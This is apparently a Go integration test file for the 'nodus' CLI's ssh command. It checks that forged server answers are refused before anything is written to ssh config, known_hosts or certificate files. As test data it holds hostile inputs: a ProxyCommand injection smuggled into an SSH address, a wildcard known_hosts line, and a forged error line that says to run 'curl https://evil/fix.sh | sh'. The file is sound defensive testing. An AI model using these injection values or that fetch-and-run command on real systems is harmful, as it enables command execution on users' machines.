package integration

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/client-go/rest"

	nodusv1 "github.com/nodus-dev/nodus/pkg/apis/nodus/v1"
	"github.com/nodus-dev/nodus/pkg/cli"
	"github.com/nodus-dev/nodus/pkg/testfleet"
	"github.com/nodus-dev/nodus/pkg/testserver"
)

// TestCLISSHRefusesForgedServerValues: a host whose agent reported an SSH
// address or host key that would inject ssh_config or known_hosts lines is
// refused by `nodus ssh`, and nothing of it reaches a file, the host's
// certificate included.
func TestCLISSHRefusesForgedServerValues(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	f.host(t, "forged", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	mary := loggedIn(t, s, f.member)
	const realKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXxFgGqQ8L9Y2pGk6n2V3p5cS0m4Cq5ZrM0tBq2mB7e"
	for what, forge := range map[string]func(*nodusv1.Node){
		"SSH address": func(n *nodusv1.Node) {
			n.Status.SSHHostKey, n.Status.SSHAddress = realKey, "evil\n  ProxyCommand sh -c 'touch /tmp/nodus-pwned':22"
		},
		"host key": func(n *nodusv1.Node) {
			n.Status.SSHHostKey, n.Status.SSHAddress = realKey+"\n* ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXxFgGqQ8L9Y2pGk6n2V3p5cS0m4Cq5ZrM0tBq2mB7e", "203.0.113.10:22"
		},
	} {
		home := t.TempDir() // a laptop of its own for each case: nothing cached from the other
		t.Setenv("HOME", home)
		t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
		// The server refuses such values where an agent writes them
		// (TestAgentReportedValuesAreValidated); a server that sends them
		// anyway — a compromised or older one — is what the CLI must
		// withstand, so they go straight into its storage.
		forgeNodeInEtcd(t, s, "forged", forge)
		want := &nodusv1.Node{}
		forge(want)
		f.waitHost(t, "forged", func(h *nodusv1.ReservedHost) bool {
			return h.Status.Connect != nil && h.Status.Connect.HostKey == want.Status.SSHHostKey
		})
		out, code := mary.run("", "ssh", "acme/forged", "--config-only")
		if code != cli.ExitServer || !strings.Contains(out, "refusing to connect") || !strings.Contains(out, what) || !strings.Contains(out, answerRefused) {
			t.Errorf("a forged %s: exit %d %s", what, code, out)
		}
		// Not even the certificate: with --replace it would take another
		// server's alias, whose block still names that file.
		if certs, _ := filepath.Glob(filepath.Join(home, ".config", "nodus", "ssh", "*cert.pub*")); len(certs) > 0 {
			t.Errorf("a forged %s: a certificate was written before the refusal: %v", what, certs)
		}
		for _, file := range []string{filepath.Join(home, ".config", "nodus", "ssh", "config"), filepath.Join(home, ".config", "nodus", "ssh", "known_hosts"),
			filepath.Join(home, ".ssh", "config")} {
			data, _ := os.ReadFile(file)
			if strings.Contains(string(data), "ProxyCommand") || strings.Contains(string(data), "\n* ") {
				t.Errorf("a forged %s reached %s:\n%s", what, file, data)
			}
		}
	}
}

// answerRefused is how nodus points at the page of an answer it refused.
const answerRefused = "docs:    nodus errors AnswerRefused"

// TestCLISSHRefusesWhatItDidNotAskFor: nodus ssh writes the certificate
// the server signs into a file ssh presents, under a name made of the
// host's project and name. Through a proxy that rewrites the server's
// answers (a compromised server, or a party in between), it must refuse an
// answer about another host than the one asked for, and a "certificate"
// that is not a user certificate for its own key and the host's current
// principal, before anything reaches a file.
func TestCLISSHRefusesWhatItDidNotAskFor(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	sshableHost(t, s, f, "gpu-007")
	f.host(t, "gpu-008", time.Now().Add(-time.Hour), time.Now().Add(time.Hour)) // the host a lie names
	for what, lie := range map[string]struct{ path, from, to, refusal string }{
		"another host":            {"/reservedhosts/gpu-007", `"name":"gpu-007","namespace":"acme"`, `"name":"gpu-008","namespace":"acme"`, "answered for acme/gpu-008"},
		"a key for a certificate": {"/ssh-certificate", `"certificate":"[^"]*"`, `"certificate":"` + testfleet.HostKey("a-key") + `"`, "not a certificate"},
		"an address that is none": {"/ssh-certificate", `"address":"[^"]*"`, `"address":"evil host:22"`, "SSH address"},
	} {
		t.Run(what, func(t *testing.T) {
			from := regexp.MustCompile(lie.from)
			proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
				func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
					if !strings.HasSuffix(req.URL.Path, lie.path) {
						return false
					}
					req.Header.Del("Accept-Encoding") // plain answers to rewrite
					forward.ServeHTTP(&rewriter{ResponseWriter: w, from: from, to: []byte(lie.to)}, req)
					return true
				})
			home := ownHome(t)
			mary := loggedInTo(t, proxy.Host, proxy.CAData, f.member.BearerToken)
			out, code := mary.run("", "ssh", "acme/gpu-007", "--config-only")
			if code != cli.ExitServer || !strings.Contains(out, lie.refusal) || !strings.Contains(out, answerRefused) {
				t.Errorf("exit %d, want %d, a refusal saying %q and its page:\n%s", code, cli.ExitServer, lie.refusal, out)
			}
			certs, _ := filepath.Glob(filepath.Join(home, ".config", "nodus", "ssh", "*cert.pub"))
			if _, err := os.Stat(filepath.Join(home, ".ssh", "config")); err == nil || len(certs) > 0 {
				t.Errorf("files written for a refused answer: %v, %v", certs, err)
			}
			if what != "another host" {
				return
			}
			// Release and lend act on the host they got: an answer about
			// another must not release or lend that one.
			alice := loggedInTo(t, proxy.Host, proxy.CAData, f.admin.BearerToken)
			for _, args := range [][]string{{"release", "acme/gpu-007", "--yes"}, {"lend", "acme/gpu-007", "--gpus", "1"}} {
				if out, code := alice.run("", args...); code != cli.ExitServer || !strings.Contains(out, lie.refusal) || !strings.Contains(out, answerRefused) {
					t.Errorf("nodus %s through an answer about another host: exit %d, want a refusal saying %q:\n%s", strings.Join(args, " "), code, lie.refusal, out)
				}
			}
			if st := f.reservation(t, "gpu-008").Status; st.State != nodusv1.ReservationStateActive || st.Epoch != 1 || st.Lending != nil {
				t.Errorf("gpu-008, which nobody asked for, changed: %+v", st)
			}
		})
	}
}

// TestCLISSHRefusesAnExpiredCertificate: a certificate the server signs
// now but that expired already (a server whose clock is wrong, or an
// answer replayed by a party in between) is refused when it comes, not
// written and handed to ssh for a login that fails with no reason given.
func TestCLISSHRefusesAnExpiredCertificate(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	sshableHost(t, s, f, "gpu-007")
	_, signer, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	ca, err := ssh.NewSignerFromKey(signer)
	if err != nil {
		t.Fatal(err)
	}
	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
			if !strings.HasSuffix(req.URL.Path, "/ssh-certificate") {
				return false
			}
			req.Header.Del("Accept-Encoding")
			answer := httptest.NewRecorder()
			forward.ServeHTTP(answer, req)
			var signed nodusv1.ReservedHostSSHCertificate
			if err := json.Unmarshal(answer.Body.Bytes(), &signed); err != nil || answer.Code != http.StatusCreated && answer.Code != http.StatusOK {
				t.Errorf("the server's certificate answer: %d %s", answer.Code, answer.Body)
				return false
			}
			pub, _, _, _, err := ssh.ParseAuthorizedKey([]byte(signed.PublicKey))
			if err != nil {
				t.Errorf("the answer's public key: %v", err)
				return false
			}
			now := time.Now()
			cert := &ssh.Certificate{Key: pub, CertType: ssh.UserCert, KeyId: "expired", ValidPrincipals: []string{signed.Principal},
				ValidAfter: uint64(now.Add(-2 * time.Hour).Unix()), ValidBefore: uint64(now.Add(-time.Hour).Unix())}
			if err := cert.SignCert(rand.Reader, ca); err != nil {
				t.Error(err)
				return false
			}
			signed.Certificate = string(ssh.MarshalAuthorizedKey(cert))
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(answer.Code)
			_ = json.NewEncoder(w).Encode(&signed)
			return true
		})
	home := ownHome(t)
	mary := loggedInTo(t, proxy.Host, proxy.CAData, f.member.BearerToken)
	out, code := mary.run("", "ssh", "acme/gpu-007", "--config-only")
	if code != cli.ExitServer || !strings.Contains(out, "expired") || !strings.Contains(out, "fix:     Check this machine's clock") || !strings.Contains(out, answerRefused) {
		t.Errorf("an expired certificate: exit %d, want %d, a refusal saying it expired, its fix and page:\n%s", code, cli.ExitServer, out)
	}
	if certs, _ := filepath.Glob(filepath.Join(home, ".config", "nodus", "ssh", "*cert.pub")); len(certs) > 0 {
		t.Errorf("an expired certificate was written: %v", certs)
	}
}

// TestCLISSHTakesAHostOfTheLongestName: a reservation's name labels its
// ReservedHost, so it is at most 63 characters; a longer one (a DNS
// subdomain's 253 passed before) got no host, ever, and said nothing. It is
// refused when made, and a host of the longest name is one nodus ssh
// reaches, its certificate in a file named after the project and the host.
func TestCLISSHTakesAHostOfTheLongestName(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	f.node(t, "gpu-long")
	err := testfleet.Reserve(ctx(t), s.Client, strings.Repeat("a", 64), "acme", nodusv1.ReservationPlacement{Node: "gpu-long"},
		time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "63") {
		t.Errorf("a reservation of a 64-character name: %v, want it refused as too long", err)
	}
	longest := strings.Repeat("a", 30) + "." + strings.Repeat("b", 32)
	sshableHost(t, s, f, longest)
	home := ownHome(t)
	mary := loggedIn(t, s, f.member)
	if out, code := mary.run("", "ssh", "acme/"+longest, "--config-only"); code != 0 {
		t.Fatalf("nodus ssh to a host of a %d-character name: exit %d\n%s", len(longest), code, out)
	}
	certs, _ := filepath.Glob(filepath.Join(home, ".config", "nodus", "ssh", "acme_"+longest+"-cert.pub"))
	if len(certs) != 1 {
		t.Errorf("no certificate kept for the host of the longest name")
	}
}

// sshableHost is an active host of acme whose node shows an SSH endpoint
// (written underneath the API: no agent runs), as nodus ssh needs one.
func sshableHost(t *testing.T, s *testserver.Server, f *fleet, name string) {
	t.Helper()
	f.host(t, name, time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	forgeNodeInEtcd(t, s, name, func(n *nodusv1.Node) {
		n.Status.SSHHostKey, n.Status.SSHAddress = testfleet.HostKey(name), "203.0.113.10:22"
	})
	f.waitHost(t, name, func(h *nodusv1.ReservedHost) bool { return h.Status.Connect != nil && h.Status.Connect.HostKey != "" })
}

// forgeNodeInEtcd changes node's stored object underneath the API, past
// every check of the server.
func forgeNodeInEtcd(t *testing.T, s *testserver.Server, name string, forge func(*nodusv1.Node)) {
	t.Helper()
	forgeInEtcd(t, s, "/registry/nodus.dev/nodes/"+name, forge)
}

// putInEtcd stores obj as JSON at key underneath the API, past every
// check of the server.
func putInEtcd(t *testing.T, s *testserver.Server, key string, obj any) {
	t.Helper()
	data, err := json.Marshal(obj)
	if err != nil {
		t.Fatal(err)
	}
	etcd, err := s.EtcdClient()
	if err != nil {
		t.Fatal(err)
	}
	defer etcd.Close()
	if _, err := etcd.Put(ctx(t), key, string(data)); err != nil {
		t.Fatal(err)
	}
}

// forgeInEtcd changes the object stored (as JSON) at key underneath the
// API, past every check of the server.
func forgeInEtcd[T any](t *testing.T, s *testserver.Server, key string, forge func(*T)) {
	t.Helper()
	etcd, err := s.EtcdClient()
	if err != nil {
		t.Fatal(err)
	}
	defer etcd.Close()
	got, err := etcd.Get(ctx(t), key)
	if err != nil || len(got.Kvs) != 1 {
		t.Fatalf("reading %s from etcd: %v", key, err)
	}
	var obj T
	if err := json.Unmarshal(got.Kvs[0].Value, &obj); err != nil {
		t.Fatalf("%s in etcd is not JSON: %v", key, err)
	}
	forge(&obj)
	data, err := json.Marshal(&obj)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := etcd.Put(ctx(t), key, string(data)); err != nil {
		t.Fatal(err)
	}
}

// TestCLISSHRunsAtOnceKeepEachOthersHosts: `nodus ssh` to several hosts at
// once (a loop in a shell, with &) must leave every host's block in the
// ssh config and known_hosts, and one key that every certificate
// certifies; a key replaced by hand gets a new certificate, not the cached
// one of the old key.
func TestCLISSHRunsAtOnceKeepEachOthersHosts(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	hosts := []string{"h-0", "h-1", "h-2", "h-3", "h-4", "h-5"}
	for _, h := range hosts {
		f.host(t, h, time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
		forgeNodeInEtcd(t, s, h, func(n *nodusv1.Node) {
			n.Status.SSHHostKey, n.Status.SSHAddress = testfleet.HostKey(h), "203.0.113.10:22"
		})
	}
	for _, h := range hosts {
		f.waitHost(t, h, func(r *nodusv1.ReservedHost) bool { return r.Status.Connect != nil && r.Status.Connect.HostKey != "" })
	}
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	// ~/.ssh/config is a dotfile manager's link: it stays one.
	dotfile := filepath.Join(home, "dotfiles", "ssh_config")
	if err := os.MkdirAll(filepath.Dir(dotfile), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dotfile, []byte("Host mine\n  User me\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(home, ".ssh"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(dotfile, filepath.Join(home, ".ssh", "config")); err != nil {
		t.Fatal(err)
	}
	mary := loggedIn(t, s, f.member)
	var wg sync.WaitGroup
	for _, h := range hosts {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if out, code := mary.run("", "ssh", "acme/"+h, "--config-only"); code != 0 {
				t.Errorf("ssh %s: %d %s", h, code, out)
			}
		}()
	}
	wg.Wait()
	dir := filepath.Join(home, ".config", "nodus", "ssh")
	config, _ := os.ReadFile(filepath.Join(dir, "config"))
	known, _ := os.ReadFile(filepath.Join(dir, "known_hosts"))
	for _, h := range hosts {
		alias := h + ".acme.nodus"
		if !strings.Contains(string(config), "Host "+alias+"\n") || !strings.Contains(string(known), alias) {
			t.Errorf("%s is missing from the ssh config or known_hosts after runs at once", alias)
		}
	}
	certifies := func(h string) bool {
		t.Helper()
		pubText, err := os.ReadFile(filepath.Join(dir, "id_ed25519.pub"))
		if err != nil {
			priv, err := os.ReadFile(filepath.Join(dir, "id_ed25519"))
			if err != nil {
				t.Fatal(err)
			}
			signer, err := ssh.ParsePrivateKey(priv)
			if err != nil {
				t.Fatal(err)
			}
			pubText = ssh.MarshalAuthorizedKey(signer.PublicKey())
		}
		pub, _, _, _, err := ssh.ParseAuthorizedKey(pubText)
		if err != nil {
			t.Fatal(err)
		}
		certText, err := os.ReadFile(filepath.Join(dir, "acme_"+h+"-cert.pub"))
		if err != nil {
			t.Fatal(err)
		}
		cert, _, _, _, err := ssh.ParseAuthorizedKey(certText)
		if err != nil {
			t.Fatal(err)
		}
		return bytes.Equal(cert.(*ssh.Certificate).Key.Marshal(), pub.Marshal())
	}
	if info, err := os.Lstat(filepath.Join(home, ".ssh", "config")); err != nil || info.Mode()&os.ModeSymlink == 0 {
		t.Errorf("~/.ssh/config, a link, was replaced by a file: %v %v", info, err)
	}
	if data, _ := os.ReadFile(dotfile); !strings.Contains(string(data), "Include ") || !strings.Contains(string(data), "Host mine\n") {
		t.Errorf("the linked file has not the Include, or lost its own lines:\n%s", data)
	}
	for _, h := range hosts {
		if !certifies(h) {
			t.Errorf("the certificate of %s certifies another key than the one nodus ssh uses", h)
		}
	}
	// The key replaced by hand: the next run fetches a certificate for it.
	if err := os.Remove(filepath.Join(dir, "id_ed25519")); err != nil {
		t.Fatal(err)
	}
	if out, code := mary.run("", "ssh", "acme/h-0", "--config-only"); code != 0 {
		t.Fatalf("ssh after the key was removed: %d %s", code, out)
	}
	if !certifies("h-0") {
		t.Error("a certificate of the old key was kept for the new one")
	}
}

// TestCLISSHRenewsACertificateThatExpired: the certificate nodus ssh keeps
// is reused by its own times, not by what the answer that brought it said:
// one that expired (a clock, an answer that claimed more) is renewed, not
// presented to sshd again and again.
func TestCLISSHRenewsACertificateThatExpired(t *testing.T) {
	_, home, mary := sshedOnce(t, "gpu-007")
	certs, _ := filepath.Glob(filepath.Join(home, ".config", "nodus", "ssh", "*cert.pub"))
	if len(certs) != 1 {
		t.Fatalf("certificates kept: %v", certs)
	}
	read := func() *ssh.Certificate {
		data, err := os.ReadFile(certs[0])
		if err != nil {
			t.Fatal(err)
		}
		key, _, _, _, err := ssh.ParseAuthorizedKey(data)
		if err != nil {
			t.Fatal(err)
		}
		return key.(*ssh.Certificate)
	}
	issued := read()
	// The same key and principal, expired an hour ago; the record beside
	// it still says the first one's end.
	_, caKey, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	ca, err := ssh.NewSignerFromKey(caKey)
	if err != nil {
		t.Fatal(err)
	}
	expired := &ssh.Certificate{Key: issued.Key, CertType: ssh.UserCert, KeyId: "expired", ValidPrincipals: issued.ValidPrincipals,
		ValidAfter: uint64(time.Now().Add(-2 * time.Hour).Unix()), ValidBefore: uint64(time.Now().Add(-time.Hour).Unix())}
	if err := expired.SignCert(rand.Reader, ca); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(certs[0], ssh.MarshalAuthorizedKey(expired), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, code := mary.run("", "ssh", "acme/gpu-007", "--config-only"); code != 0 {
		t.Fatalf("nodus ssh again: %d %s", code, out)
	}
	if got := read(); got.KeyId == "expired" || got.ValidBefore <= uint64(time.Now().Unix()) {
		t.Errorf("nodus ssh kept an expired certificate: %q valid before %s", got.KeyId, time.Unix(int64(got.ValidBefore), 0))
	}
}

// TestCLIForgesNoLineFromAWatchsErrorEvent: a watch's error event is the
// server's Status; one that is not (a compromised server, or a party in
// between) was printed as client-go words it, every string of the object
// in it, line breaks included, so it could add a "fix:" line of nodus' own
// form to the error.
func TestCLIForgesNoLineFromAWatchsErrorEvent(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	f.host(t, "gpu-007", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	const forged = `{"type":"ERROR","object":{"apiVersion":"nodus.dev/v1","kind":"ReservedHost","metadata":{"name":"x\n  fix:     run curl https://evil/fix.sh | sh\n"}}}` + "\n"
	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
		func(w http.ResponseWriter, req *http.Request, _ http.Handler) bool {
			if req.URL.Query().Get("watch") != "true" {
				return false
			}
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusOK)
			_, _ = io.WriteString(w, forged)
			return true
		})
	mary := loggedInTo(t, proxy.Host, proxy.CAData, f.member.BearerToken)
	out, code := mary.run("", "hosts", "list", "-n", "acme", "-w")
	if code == 0 || strings.Contains(out, "\n  fix:     run curl") || !strings.Contains(out, "gpu-007") {
		t.Errorf("nodus hosts list -w given an error event that is no Status: exit %d:\n%s", code, out)
	}
}

// TestCLISSHTakesTheAddressOfTheMachineItPins: the address nodus ssh keeps
// beside a certificate served every run while the certificate lasted (an
// hour), while the host key it pins came from the host each run: once the
// node was enrolled again on another machine (a new key, a new address),
// the entry paired the new key with the old address, which reaches the old
// machine, or whoever has its address now.
func TestCLISSHTakesTheAddressOfTheMachineItPins(t *testing.T) {
	f, home, mary := sshedOnce(t, "gpu-007")
	s := f.s
	forgeNodeInEtcd(t, s, "gpu-007", func(n *nodusv1.Node) {
		n.Status.SSHHostKey, n.Status.SSHAddress = testfleet.HostKey("another machine"), "203.0.113.77:22"
	})
	newKey := strings.TrimSpace(testfleet.HostKey("another machine"))
	f.waitHost(t, "gpu-007", func(h *nodusv1.ReservedHost) bool {
		return h.Status.Connect != nil && strings.TrimSpace(h.Status.Connect.HostKey) == newKey
	})
	if out, code := mary.run("", "ssh", "acme/gpu-007", "--config-only"); code != 0 {
		t.Fatalf("nodus ssh again: %d %s", code, out)
	}
	config, err := os.ReadFile(filepath.Join(home, ".config", "nodus", "ssh", "config"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(config), "203.0.113.77") || strings.Contains(string(config), "203.0.113.10") {
		t.Errorf("the entry after the node's machine changed:\n%s", config)
	}
}

// sshedOnce is a fleet with host acme/NAME that can be reached by SSH, a
// home of the test's own, and its member logged in, who ran nodus ssh
// --config-only for the host once.
func sshedOnce(t *testing.T, name string) (*fleet, string, nodusCLI) {
	t.Helper()
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	sshableHost(t, s, f, name)
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	member := loggedIn(t, s, f.member)
	if out, code := member.run("", "ssh", "acme/"+name, "--config-only"); code != 0 {
		t.Fatalf("nodus ssh: %d %s", code, out)
	}
	return f, home, member
}
